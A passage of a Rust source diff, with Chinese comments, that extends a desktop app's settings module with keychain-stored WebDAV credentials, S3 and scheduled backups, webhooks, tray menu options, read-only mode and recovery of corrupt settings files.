@@ -1,6 +1,8 @@
 use serde::{Deserialize, Serialize};
+use std::cell::Cell;
+use std::collections::BTreeMap;
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::sync::{OnceLock, RwLock};
 
 use crate::app_config::AppType;
@@ -16,6 +18,536 @@ pub struct CustomEndpoint {
     pub last_used: Option<i64>,
 }
 
+/// 各应用 live 配置文件的路径覆盖（设备级）
+///
+/// 值可以是文件名/相对路径（相对于对应应用的配置目录），也可以是绝对路径或 `~/...`。
+/// 用于 `auth.json` 的替代文件名、XDG 重定位的 Claude 配置等场景。
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct LiveFileOverrides {
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub claude_settings: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub codex_auth: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub codex_config: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub gemini_env: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub gemini_settings: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub opencode_config: Option<String>,
+}
+
+impl LiveFileOverrides {
+    pub fn is_empty(&self) -> bool {
+        self == &Self::default()
+    }
+
+    pub fn get(&self, file: LiveFile) -> Option<&str> {
+        match file {
+            LiveFile::ClaudeSettings => self.claude_settings.as_deref(),
+            LiveFile::CodexAuth => self.codex_auth.as_deref(),
+            LiveFile::CodexConfig => self.codex_config.as_deref(),
+            LiveFile::GeminiEnv => self.gemini_env.as_deref(),
+            LiveFile::GeminiSettings => self.gemini_settings.as_deref(),
+            LiveFile::OpenCodeConfig => self.opencode_config.as_deref(),
+        }
+    }
+
+    fn normalize(&mut self) {
+        for slot in [
+            &mut self.claude_settings,
+            &mut self.codex_auth,
+            &mut self.codex_config,
+            &mut self.gemini_env,
+            &mut self.gemini_settings,
+            &mut self.opencode_config,
+        ] {
+            *slot = slot
+                .as_ref()
+                .map(|s| s.trim())
+                .filter(|s| !s.is_empty())
+                .map(|s| s.to_string());
+        }
+    }
+}
+
+/// 可被覆盖路径的 live 配置文件
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum LiveFile {
+    ClaudeSettings,
+    CodexAuth,
+    CodexConfig,
+    GeminiEnv,
+    GeminiSettings,
+    OpenCodeConfig,
+}
+
+/// WebDAV 同步配置（设备级，凭据不随数据库同步）
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct WebDavSyncConfig {
+    /// WebDAV 服务地址，如 `https://dav.example.com/remote.php/dav/files/me`
+    pub url: String,
+    #[serde(default)]
+    pub username: String,
+    /// 仅用于接收界面传入的新密码（或旧版本明文保存的密码）：保存设置时移入系统钥匙串，
+    /// 不写入 settings.json，也不返回给界面
+    #[serde(default, skip_serializing)]
+    pub password: String,
+    /// 远程目录（相对于 url），默认 `cc-switch`
+    #[serde(default = "default_remote_dir")]
+    pub remote_dir: String,
+    /// 同步时排除 API Key 等密钥（密钥仅保存在本设备的系统钥匙串）
+    #[serde(default)]
+    pub exclude_secrets: bool,
+    /// 定时同步间隔（分钟），0 表示仅手动同步
+    #[serde(default)]
+    pub auto_sync_interval_minutes: u32,
+}
+
+fn default_remote_dir() -> String {
+    "cc-switch".to_string()
+}
+
+/// 钥匙串中保存 WebDAV 密码的键
+const WEBDAV_PASSWORD_SECRET: &str = "webdav-password";
+
+impl WebDavSyncConfig {
+    /// 访问 WebDAV 使用的密码：尚未保存的配置（如测试连接）使用传入的值，否则读取钥匙串
+    pub fn password(&self) -> Result<String, AppError> {
+        if !self.password.is_empty() {
+            return Ok(self.password.clone());
+        }
+        Ok(crate::secret_store::get_secret(WEBDAV_PASSWORD_SECRET)?.unwrap_or_default())
+    }
+}
+
+/// 把设置中携带的 WebDAV 密码（没有时为文件中旧版本明文保存的密码）移入系统钥匙串；
+/// WebDAV 配置被移除时一并删除密码
+fn store_webdav_password(
+    settings: &mut AppSettings,
+    previous: &AppSettings,
+    legacy_password: Option<String>,
+) -> Result<(), AppError> {
+    match settings.webdav_sync.as_mut() {
+        Some(config) => {
+            let password = Some(std::mem::take(&mut config.password))
+                .filter(|password| !password.is_empty())
+                .or(legacy_password);
+            if let Some(password) = password {
+                crate::secret_store::set_secret(WEBDAV_PASSWORD_SECRET, &password)?;
+            }
+        }
+        None if previous.webdav_sync.is_some() => {
+            crate::secret_store::delete_secret(WEBDAV_PASSWORD_SECRET)?;
+        }
+        None => {}
+    }
+    Ok(())
+}
+
+/// 旧版本把 WebDAV 密码明文保存在 settings.json 中：启动时移入钥匙串并重写文件
+#[cfg(feature = "gui")]
+pub fn migrate_webdav_password() {
+    let settings = get_settings();
+    if settings
+        .webdav_sync
+        .as_ref()
+        .is_some_and(|config| !config.password.is_empty())
+    {
+        match update_settings(settings) {
+            Ok(()) => log::info!("已将 WebDAV 密码移入系统钥匙串"),
+            Err(e) => log::warn!("迁移 WebDAV 密码失败: {e}"),
+        }
+    }
+}
+
+/// S3 兼容备份目标配置（AWS S3 / Cloudflare R2 / MinIO）
+///
+/// 访问密钥与加密口令存放在系统钥匙串中，不写入此结构。
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct S3BackupConfig {
+    /// 服务端点，如 `https://s3.us-east-1.amazonaws.com` 或 `https://<account>.r2.cloudflarestorage.com`
+    pub endpoint: String,
+    /// 区域（R2 使用 `auto`）
+    #[serde(default = "default_s3_region")]
+    pub region: String,
+    pub bucket: String,
+    /// 对象键前缀，默认 `cc-switch`
+    #[serde(default = "default_remote_dir")]
+    pub prefix: String,
+    /// 使用路径风格地址（`<endpoint>/<bucket>/<key>`），MinIO 等自建服务通常需要开启
+    #[serde(default = "default_true")]
+    pub path_style: bool,
+}
+
+fn default_s3_region() -> String {
+    "us-east-1".to_string()
+}
+
+/// 定时自动备份配置
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct AutoBackupConfig {
+    #[serde(default)]
+    pub enabled: bool,
+    /// 备份间隔（小时）
+    #[serde(default = "default_backup_interval_hours")]
+    pub interval_hours: u32,
+    /// 保留最近 N 天的每日备份
+    #[serde(default = "default_backup_keep_daily")]
+    pub keep_daily: u32,
+    /// 保留最近 N 周的每周备份
+    #[serde(default = "default_backup_keep_weekly")]
+    pub keep_weekly: u32,
+}
+
+impl Default for AutoBackupConfig {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            interval_hours: default_backup_interval_hours(),
+            keep_daily: default_backup_keep_daily(),
+            keep_weekly: default_backup_keep_weekly(),
+        }
+    }
+}
+
+/// 按速度自动选择供应商（单个应用）
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct AutoSelectConfig {
+    #[serde(default)]
+    pub enabled: bool,
+    /// 测速间隔（分钟）
+    #[serde(default = "default_auto_select_interval_minutes")]
+    pub interval_minutes: u32,
+    /// 候选供应商 ID，为空时使用该应用的全部供应商
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub candidates: Vec<String>,
+    /// 更快的供应商首字节耗时至少比当前供应商低这个百分比才切换，避免来回切换
+    #[serde(default = "default_auto_select_margin_percent")]
+    pub margin_percent: u32,
+}
+
+impl Default for AutoSelectConfig {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            interval_minutes: default_auto_select_interval_minutes(),
+            candidates: Vec::new(),
+            margin_percent: default_auto_select_margin_percent(),
+        }
+    }
+}
+
+fn default_auto_select_interval_minutes() -> u32 {
+    30
+}
+
+fn default_auto_select_margin_percent() -> u32 {
+    20
+}
+
+/// 限流与服务错误突增检测（读取 Claude Code / Codex 会话日志）
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ErrorBurstConfig {
+    #[serde(default = "default_true")]
+    pub enabled: bool,
+    /// 时间窗口内出现多少次 429 / 5xx 错误视为突增
+    #[serde(default = "default_error_burst_threshold")]
+    pub threshold: u32,
+    /// 时间窗口（分钟）
+    #[serde(default = "default_error_burst_window_minutes")]
+    pub window_minutes: u32,
+}
+
+impl Default for ErrorBurstConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            threshold: default_error_burst_threshold(),
+            window_minutes: default_error_burst_window_minutes(),
+        }
+    }
+}
+
+fn default_error_burst_threshold() -> u32 {
+    5
+}
+
+fn default_error_burst_window_minutes() -> u32 {
+    5
+}
+
+/// 供应商可用性监控（定期请求当前与故障转移队列中的供应商）
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct UptimeMonitorConfig {
+    #[serde(default)]
+    pub enabled: bool,
+    /// 检查间隔（分钟）
+    #[serde(default = "default_uptime_interval_minutes")]
+    pub interval_minutes: u32,
+    /// 检查记录保留天数
+    #[serde(default = "default_uptime_retention_days")]
+    pub retention_days: u32,
+}
+
+impl Default for UptimeMonitorConfig {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            interval_minutes: default_uptime_interval_minutes(),
+            retention_days: default_uptime_retention_days(),
+        }
+    }
+}
+
+fn default_uptime_interval_minutes() -> u32 {
+    5
+}
+
+fn default_uptime_retention_days() -> u32 {
+    30
+}
+
+/// Live 配置被外部改写（如 CLI 登录、升级）后的处理方式
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum LiveConfigGuard {
+    /// 不监听
+    #[default]
+    Off,
+    /// 通知前端，由用户一键重新应用
+    Notify,
+    /// 自动重新应用当前供应商
+    Reapply,
+}
+
+/// 本地自动化 HTTP API 配置（仅能通过专门命令修改）
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct AutomationApiConfig {
+    #[serde(default)]
+    pub enabled: bool,
+    /// 监听端口（仅 127.0.0.1）
+    #[serde(default = "default_automation_api_port")]
+    pub port: u16,
+}
+
+impl Default for AutomationApiConfig {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            port: default_automation_api_port(),
+        }
+    }
+}
+
+/// Webhook 消息格式
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum WebhookFormat {
+    /// 通用 JSON（事件字段完整输出）
+    #[default]
+    Generic,
+    /// Slack Incoming Webhook（`text`）
+    Slack,
+    /// Discord Webhook（`content`）
+    Discord,
+}
+
+/// 触发 Webhook 的事件
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub enum WebhookEvent {
+    /// 手动、托盘、命令行或自动化规则切换供应商
+    ProviderSwitched,
+    /// 流式健康检查失败
+    HealthCheckFailed,
+    /// 代理故障转移到其它供应商
+    Failover,
+}
+
+impl WebhookEvent {
+    pub const ALL: [WebhookEvent; 3] = [
+        WebhookEvent::ProviderSwitched,
+        WebhookEvent::HealthCheckFailed,
+        WebhookEvent::Failover,
+    ];
+}
+
+/// 单个 Webhook 目标
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct WebhookConfig {
+    pub url: String,
+    #[serde(default)]
+    pub format: WebhookFormat,
+    /// 订阅的事件，默认全部
+    #[serde(default = "default_webhook_events")]
+    pub events: Vec<WebhookEvent>,
+    #[serde(default = "default_true")]
+    pub enabled: bool,
+}
+
+fn default_webhook_events() -> Vec<WebhookEvent> {
+    WebhookEvent::ALL.to_vec()
+}
+
+/// 发送系统通知的事件
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub enum NotificationEvent {
+    /// 托盘、快速切换、自动化规则或自动选择切换供应商成功
+    SwitchSucceeded,
+    /// 托盘、快速切换或自动化规则切换供应商失败
+    SwitchFailed,
+    /// 代理故障转移到其它供应商
+    Failover,
+    /// 自动备份完成或失败
+    Backup,
+    /// 自动化规则中的健康检查失败，或会话日志中出现限流 / 服务错误突增
+    HealthCheckFailed,
+}
+
+impl NotificationEvent {
+    pub const ALL: [NotificationEvent; 5] = [
+        NotificationEvent::SwitchSucceeded,
+        NotificationEvent::SwitchFailed,
+        NotificationEvent::Failover,
+        NotificationEvent::Backup,
+        NotificationEvent::HealthCheckFailed,
+    ];
+}
+
+/// 系统通知配置
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct NotificationConfig {
+    #[serde(default = "default_true")]
+    pub enabled: bool,
+    /// 发送通知的事件，默认全部
+    #[serde(default = "default_notification_events")]
+    pub events: Vec<NotificationEvent>,
+}
+
+impl Default for NotificationConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            events: default_notification_events(),
+        }
+    }
+}
+
+fn default_notification_events() -> Vec<NotificationEvent> {
+    NotificationEvent::ALL.to_vec()
+}
+
+/// 托盘菜单中可以隐藏的操作
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub enum TrayMenuAction {
+    /// 「打开主界面」
+    ShowMain,
+    /// 「最近使用」分区
+    Recent,
+    /// 「暂停 CC Switch」
+    Pause,
+    /// 目录覆盖与「同步到两个目录」开关（未设置目录覆盖时不显示）
+    ConfigDirs,
+}
+
+/// 托盘菜单自定义（「退出」始终显示）
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct TrayMenuConfig {
+    /// 不在托盘菜单、提示文字与标题中出现的应用
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub hidden_apps: Vec<AppType>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub hidden_actions: Vec<TrayMenuAction>,
+    /// 按应用隐藏的供应商 ID（键为应用名，如 `claude`）；当前供应商始终显示
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub hidden_providers: BTreeMap<String, Vec<String>>,
+}
+
+impl TrayMenuConfig {
+    pub fn is_empty(&self) -> bool {
+        self == &Self::default()
+    }
+
+    #[cfg(feature = "gui")]
+    pub fn shows_app(&self, app_type: &AppType) -> bool {
+        !self.hidden_apps.contains(app_type)
+    }
+
+    #[cfg(feature = "gui")]
+    pub fn shows_action(&self, action: TrayMenuAction) -> bool {
+        !self.hidden_actions.contains(&action)
+    }
+
+    #[cfg(feature = "gui")]
+    pub fn shows_provider(&self, app_type: &AppType, provider_id: &str) -> bool {
+        self.hidden_providers
+            .get(app_type.as_str())
+            .is_none_or(|ids| !ids.iter().any(|id| id == provider_id))
+    }
+}
+
+/// 托盘自定义操作
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct TrayQuickAction {
+    /// 菜单项文字
+    pub label: String,
+    #[serde(flatten)]
+    pub kind: TrayQuickActionKind,
+}
+
+/// 托盘自定义操作的类型
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(tag = "type", rename_all = "camelCase")]
+pub enum TrayQuickActionKind {
+    /// 通过系统 shell 运行脚本或命令（不等待结束）
+    RunScript { command: String },
+    /// 打开应用的配置目录（生效的目录覆盖优先）
+    OpenConfigDir { app: AppType },
+    /// 打开供应商的网站；未指定供应商时使用当前供应商
+    #[serde(rename_all = "camelCase")]
+    OpenProviderDashboard {
+        app: AppType,
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        provider_id: Option<String>,
+    },
+}
+
+fn default_automation_api_port() -> u16 {
+    15730
+}
+
+fn default_backup_interval_hours() -> u32 {
+    24
+}
+
+fn default_backup_keep_daily() -> u32 {
+    7
+}
+
+fn default_backup_keep_weekly() -> u32 {
+    4
+}
+
+fn default_clipboard_clear_secs() -> u32 {
+    30
+}
+
 /// 应用设置结构
 ///
 /// 存储设备级别设置，保存在本地 `~/.cc-switch/settings.json`，不随数据库同步。
@@ -28,6 +560,18 @@ pub struct AppSettings {
     pub show_in_tray: bool,
     #[serde(default = "default_minimize_to_tray_on_close")]
     pub minimize_to_tray_on_close: bool,
+    /// 在托盘图标旁（macOS 菜单栏、Linux）显示当前 Claude / Codex 供应商的简称
+    #[serde(default = "default_true")]
+    pub show_provider_in_tray_title: bool,
+    /// 托盘「最近使用」中每个应用显示的供应商数（0 表示不显示）
+    #[serde(default = "default_tray_recent_providers")]
+    pub tray_recent_providers: u32,
+    /// 托盘菜单中隐藏的应用、操作与供应商
+    #[serde(default, skip_serializing_if = "TrayMenuConfig::is_empty")]
+    pub tray_menu: TrayMenuConfig,
+    /// 托盘菜单中的自定义操作（按顺序显示）
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub tray_quick_actions: Vec<TrayQuickAction>,
     /// 是否启用 Claude 插件联动
     #[serde(default)]
     pub enable_claude_plugin_integration: bool,
@@ -37,10 +581,46 @@ pub struct AppSettings {
     /// 是否开机自启
     #[serde(default)]
     pub launch_on_startup: bool,
+    /// 启动时不显示主窗口，只驻留托盘
+    #[serde(default)]
+    pub start_minimized: bool,
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub language: Option<String>,
+    /// 是否以软链接方式写入 live 配置（指向 `~/.cc-switch/live/` 下的供应商文件）
+    #[serde(default)]
+    pub live_config_symlink: bool,
+    /// 切换供应商前备份目标应用的 live 文件，支持撤销最近一次切换
+    #[serde(default)]
+    pub switch_safety_backup: bool,
+    /// 复制密钥到剪贴板后自动清除的秒数（0 表示不清除）
+    #[serde(default = "default_clipboard_clear_secs")]
+    pub clipboard_clear_secs: u32,
+    /// 查看、复制或导出 API Key 原文前要求系统身份验证（Touch ID / Windows Hello）
+    #[serde(default)]
+    pub require_os_auth_for_secrets: bool,
+    /// 只读模式：禁止切换、编辑、删除供应商（只能通过 `unlock_read_only_mode` 解除）
+    #[serde(default)]
+    pub read_only_mode: bool,
+    /// 环境变量模式：切换时不把密钥写入 live 配置，改为生成 `~/.cc-switch/env/<app>.sh|.ps1`
+    #[serde(default)]
+    pub env_only_switching: bool,
+    /// 监听 live 配置，发现端点或密钥被外部改写时通知或自动重新应用
+    #[serde(default)]
+    pub live_config_guard: LiveConfigGuard,
+    /// JSON 导出的排除规则（`.gitignore` 风格的 JSON 路径模式，如 `*.apiKey`、`meta.notes`）
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub export_exclude_rules: Vec<String>,
+    /// 只读模式的解锁口令哈希（Argon2id）；为空时解锁需要系统身份验证
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub read_only_passphrase_hash: Option<String>,
 
     // ===== 设备级目录覆盖 =====
+    /// 是否启用下列目录覆盖（关闭后保留填写的目录，临时改用各应用的默认目录）
+    #[serde(default = "default_true")]
+    pub enable_config_dir_overrides: bool,
+    /// 切换供应商时同时写入覆盖目录与默认目录（如 WSL 与 Windows 共用一套供应商）
+    #[serde(default)]
+    pub sync_provider_switch_to_both_config_dirs: bool,
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub claude_config_dir: Option<String>,
     #[serde(default, skip_serializing_if = "Option::is_none")]
@@ -49,6 +629,39 @@ pub struct AppSettings {
     pub gemini_config_dir: Option<String>,
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub opencode_config_dir: Option<String>,
+    /// WebDAV 数据库同步配置
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub webdav_sync: Option<WebDavSyncConfig>,
+    /// S3 兼容加密备份配置
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub s3_backup: Option<S3BackupConfig>,
+    /// 定时自动备份
+    #[serde(default)]
+    pub auto_backup: AutoBackupConfig,
+    /// 本地自动化 HTTP API
+    #[serde(default)]
+    pub automation_api: AutomationApiConfig,
+    /// 切换、健康检查失败与故障转移时通知的 Webhook
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub webhooks: Vec<WebhookConfig>,
+    /// 按速度自动选择供应商（键为应用名，如 `claude`；不适用于 OpenCode）
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub auto_select: BTreeMap<String, AutoSelectConfig>,
+    /// 限流与服务错误突增检测
+    #[serde(default)]
+    pub error_burst: ErrorBurstConfig,
+    /// 供应商可用性监控
+    #[serde(default)]
+    pub uptime_monitor: UptimeMonitorConfig,
+    /// 系统通知（切换结果、故障转移、自动备份与健康检查告警）
+    #[serde(default)]
+    pub notifications: NotificationConfig,
+    /// live 配置文件路径覆盖
+    #[serde(default, skip_serializing_if = "LiveFileOverrides::is_empty")]
+    pub live_file_overrides: LiveFileOverrides,
+    /// 当前的数据库配置档（为空表示默认配置档，只能通过 `switch_profile` 修改）
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub database_profile: Option<String>,
 
     // ===== 当前供应商 ID（设备级）=====
     /// 当前 Claude 供应商 ID（本地存储，优先于数据库 is_current）
@@ -77,19 +690,50 @@ fn default_true() -> bool {
     true
 }
 
+fn default_tray_recent_providers() -> u32 {
+    3
+}
+
 impl Default for AppSettings {
     fn default() -> Self {
         Self {
             show_in_tray: true,
             minimize_to_tray_on_close: true,
+            show_provider_in_tray_title: true,
+            tray_recent_providers: default_tray_recent_providers(),
+            tray_menu: TrayMenuConfig::default(),
+            tray_quick_actions: Vec::new(),
             enable_claude_plugin_integration: false,
             skip_claude_onboarding: true,
             launch_on_startup: false,
+            start_minimized: false,
             language: None,
+            live_config_symlink: false,
+            switch_safety_backup: false,
+            clipboard_clear_secs: default_clipboard_clear_secs(),
+            require_os_auth_for_secrets: false,
+            read_only_mode: false,
+            env_only_switching: false,
+            live_config_guard: LiveConfigGuard::Off,
+            export_exclude_rules: Vec::new(),
+            read_only_passphrase_hash: None,
+            enable_config_dir_overrides: true,
+            sync_provider_switch_to_both_config_dirs: false,
             claude_config_dir: None,
             codex_config_dir: None,
             gemini_config_dir: None,
             opencode_config_dir: None,
+            webdav_sync: None,
+            s3_backup: None,
+            auto_backup: AutoBackupConfig::default(),
+            automation_api: AutomationApiConfig::default(),
+            webhooks: Vec::new(),
+            auto_select: BTreeMap::new(),
+            error_burst: ErrorBurstConfig::default(),
+            uptime_monitor: UptimeMonitorConfig::default(),
+            notifications: NotificationConfig::default(),
+            live_file_overrides: LiveFileOverrides::default(),
+            database_profile: None,
             current_provider_claude: None,
             current_provider_codex: None,
             current_provider_gemini: None,
@@ -99,12 +743,13 @@ impl Default for AppSettings {
 }
 
 impl AppSettings {
-    fn settings_path() -> Option<PathBuf> {
-        // settings.json 保留用于旧版本迁移和无数据库场景
-        dirs::home_dir().map(|h| h.join(".cc-switch").join("settings.json"))
+    pub(crate) fn settings_path() -> Option<PathBuf> {
+        // settings.json 保留用于旧版本迁移和无数据库场景；与数据库一样位于数据目录下，
+        // 遵循 `CC_SWITCH_HOME` 与目录覆盖（见 [`crate::paths`]）
+        Some(crate::config::get_app_config_dir().join("settings.json"))
     }
 
-    fn normalize_paths(&mut self) {
+    pub(crate) fn normalize_paths(&mut self) {
         self.claude_config_dir = self
             .claude_config_dir
             .as_ref()
@@ -133,6 +778,8 @@ impl AppSettings {
             .filter(|s| !s.is_empty())
             .map(|s| s.to_string());
 
+        self.live_file_overrides.normalize();
+
         self.language = self
             .language
             .as_ref()
@@ -141,45 +788,146 @@ impl AppSettings {
             .map(|s| s.to_string());
     }
 
+    /// 是否为任一应用填写了目录覆盖（不论是否启用）
+    pub fn has_config_dir_overrides(&self) -> bool {
+        self.claude_config_dir.is_some()
+            || self.codex_config_dir.is_some()
+            || self.gemini_config_dir.is_some()
+            || self.opencode_config_dir.is_some()
+    }
+
+    /// 获取指定应用生效的目录覆盖原始值（未展开 `~`；目录覆盖被关闭时为 None）
+    pub fn config_dir_override(&self, app_type: &AppType) -> Option<&str> {
+        if !self.enable_config_dir_overrides {
+            return None;
+        }
+        match app_type {
+            AppType::Claude => self.claude_config_dir.as_deref(),
+            AppType::Codex => self.codex_config_dir.as_deref(),
+            AppType::Gemini => self.gemini_config_dir.as_deref(),
+            AppType::OpenCode => self.opencode_config_dir.as_deref(),
+        }
+    }
+
     fn load_from_file() -> Self {
         let Some(path) = Self::settings_path() else {
             return Self::default();
         };
-        if let Ok(content) = fs::read_to_string(&path) {
-            match serde_json::from_str::<AppSettings>(&content) {
+        match fs::read_to_string(&path) {
+            Ok(content) => match serde_json::from_str::<AppSettings>(&content) {
                 Ok(mut settings) => {
                     settings.normalize_paths();
                     settings
                 }
-                Err(err) => {
-                    log::warn!(
-                        "解析设置文件失败，将使用默认设置。路径: {}, 错误: {}",
-                        path.display(),
-                        err
-                    );
-                    Self::default()
-                }
+                Err(err) => Self::recover_from_corrupt_file(&path, &err.to_string()),
+            },
+            // 不是有效的 UTF-8（写入中断或磁盘损坏）
+            Err(err) if err.kind() == std::io::ErrorKind::InvalidData => {
+                Self::recover_from_corrupt_file(&path, &err.to_string())
+            }
+            Err(_) => Self::default(),
+        }
+    }
+
+    /// 设置文件损坏时隔离，并改用上次成功保存的副本（没有副本时使用默认设置）
+    fn recover_from_corrupt_file(path: &Path, error: &str) -> Self {
+        log::error!("设置文件已损坏: {} ({error})", path.display());
+        let quarantined = match crate::config::quarantine_file(path) {
+            Ok(quarantined) => quarantined.display().to_string(),
+            Err(e) => {
+                log::warn!("隔离损坏的设置文件失败: {e}");
+                String::new()
+            }
+        };
+
+        let backup_path = last_good_settings_path(path);
+        let restored = fs::read_to_string(&backup_path)
+            .ok()
+            .and_then(|content| serde_json::from_str::<AppSettings>(&content).ok());
+        if restored.is_some() {
+            if let Err(e) = fs::copy(&backup_path, path) {
+                log::warn!("恢复设置文件失败: {e}");
             }
+            log::warn!("已从 {} 恢复设置", backup_path.display());
         } else {
-            Self::default()
+            log::warn!("没有可用的设置副本，将使用默认设置");
         }
+
+        crate::init_status::push_recovery(crate::init_status::RecoveryPayload {
+            kind: "settings".to_string(),
+            path: path.display().to_string(),
+            quarantined_path: quarantined,
+            restored_from: restored
+                .is_some()
+                .then(|| backup_path.display().to_string()),
+            error: error.to_string(),
+        });
+
+        let mut settings = restored.unwrap_or_default();
+        settings.normalize_paths();
+        settings
     }
 }
 
-fn save_settings_file(settings: &AppSettings) -> Result<(), AppError> {
-    let mut normalized = settings.clone();
-    normalized.normalize_paths();
-    let Some(path) = AppSettings::settings_path() else {
-        return Err(AppError::Config("无法获取用户主目录".to_string()));
+/// 上次成功保存的设置副本（设置文件损坏时用于恢复）
+fn last_good_settings_path(path: &Path) -> PathBuf {
+    path.with_extension("json.bak")
+}
+
+/// 读取磁盘上的设置（不存在或无法解析时返回 None，不做损坏恢复）
+fn read_settings_file(path: &Path) -> Option<AppSettings> {
+    let content = fs::read_to_string(path).ok()?;
+    let mut settings = serde_json::from_str::<AppSettings>(&content).ok()?;
+    settings.normalize_paths();
+    Some(settings)
+}
+
+/// 把调用方相对 `base` 所做的修改（按顶层字段）应用到磁盘上的最新设置
+///
+/// 其他进程在 `base` 读取之后保存的字段得以保留，同一字段以调用方为准。
+fn apply_changes(
+    base: &AppSettings,
+    ours: &AppSettings,
+    on_disk: AppSettings,
+) -> Result<AppSettings, AppError> {
+    let to_value = |settings: &AppSettings| {
+        serde_json::to_value(settings).map_err(|e| AppError::JsonSerialize { source: e })
+    };
+    let (
+        serde_json::Value::Object(base),
+        serde_json::Value::Object(ours_map),
+        serde_json::Value::Object(mut merged),
+    ) = (to_value(base)?, to_value(ours)?, to_value(&on_disk)?)
+    else {
+        return Ok(ours.clone());
     };
 
-    if let Some(parent) = path.parent() {
-        fs::create_dir_all(parent).map_err(|e| AppError::io(parent, e))?;
+    let keys: std::collections::BTreeSet<&String> = base.keys().chain(ours_map.keys()).collect();
+    for key in keys {
+        if base.get(key) == ours_map.get(key) {
+            continue;
+        }
+        match ours_map.get(key) {
+            Some(value) => merged.insert(key.clone(), value.clone()),
+            None => merged.remove(key),
+        };
     }
+    let mut settings: AppSettings = serde_json::from_value(serde_json::Value::Object(merged))
+        .map_err(|e| AppError::JsonSerialize { source: e })?;
+    settings.normalize_paths();
+    Ok(settings)
+}
 
-    let json = serde_json::to_string_pretty(&normalized)
+/// 写入设置文件（调用方需持有 `path` 的跨进程锁）
+fn save_settings_file(path: &Path, settings: &AppSettings) -> Result<(), AppError> {
+    let json = serde_json::to_string_pretty(settings)
         .map_err(|e| AppError::JsonSerialize { source: e })?;
-    fs::write(&path, json).map_err(|e| AppError::io(&path, e))?;
+    crate::config::atomic_write(path, json.as_bytes())?;
+    // 写入完成后再更新副本，副本始终是一份完整的设置
+    let backup_path = last_good_settings_path(path);
+    if let Err(e) = crate::config::atomic_write(&backup_path, json.as_bytes()) {
+        log::warn!("写入设置副本失败 {}: {e}", backup_path.display());
+    }
     Ok(())
 }
 
@@ -189,7 +937,7 @@ fn settings_store() -> &'static RwLock<AppSettings> {
     SETTINGS_STORE.get_or_init(|| RwLock::new(AppSettings::load_from_file()))
 }
 
-fn resolve_override_path(raw: &str) -> PathBuf {
+pub(crate) fn resolve_override_path(raw: &str) -> PathBuf {
     if raw == "~" {
         if let Some(home) = dirs::home_dir() {
             return home;
@@ -219,13 +967,36 @@ pub fn get_settings() -> AppSettings {
 
 pub fn update_settings(mut new_settings: AppSettings) -> Result<(), AppError> {
     new_settings.normalize_paths();
-    save_settings_file(&new_settings)?;
+    let Some(path) = AppSettings::settings_path() else {
